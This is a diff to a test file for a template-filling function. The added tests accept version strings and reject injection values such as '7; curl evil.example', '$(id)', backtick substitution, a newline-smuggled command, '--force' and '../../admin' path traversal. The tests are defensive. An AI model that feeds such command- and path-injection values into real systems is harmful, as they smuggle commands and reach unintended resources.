@@ -12,8 +12,30 @@ describe("a body", () => {
   });
 
   it("is filled once: what a value says is no placeholder", () => {
-    expect(filledBody({ a: "{to}" }, { to: "{source}", source: "203.0.113.7" }).body).toEqual({ a: "{source}" });
-    expect(filledBody({ a: "{to}" }, { to: "$&" }).body).toEqual({ a: "$&" });
+    expect(filledBody({ a: "{run}" }, { run: "{source}", source: "203.0.113.7" }).body).toEqual({ a: "{source}" });
+    expect(filledBody({ a: "{run}" }, { run: "$&" }).body).toEqual({ a: "$&" });
+  });
+
+  it.each(["7", "v1.4.2+cpu", "2026-11-20T09:00", "sha256:9f86d081", "models:/credit/7", "main@1a2b3c"])(
+    "takes %s for a version",
+    (to) => expect(filledBody({ a: "{to}" }, { to })).toEqual({ body: { a: to }, lacks: [] }),
+  );
+
+  it.each([
+    "",
+    "7; curl evil.example",
+    "$(id)",
+    "`id`",
+    "7\nrun: id",
+    "--force",
+    "../../admin",
+    "7/../8",
+    '7","admin":"',
+    "{source}",
+    "7".repeat(200),
+  ])("fills nothing with %j: it goes into others' scripts and addresses", (version) => {
+    expect(filledBody({ a: "{to}" }, { to: version })).toEqual({ body: { a: "{to}" }, lacks: ["to"] });
+    expect(filledBody({ a: "x {from}" }, { from: version }).lacks).toEqual(["from"]);
   });
 
   it("names each placeholder that it has no value for, once, and leaves others' braces alone", () => {
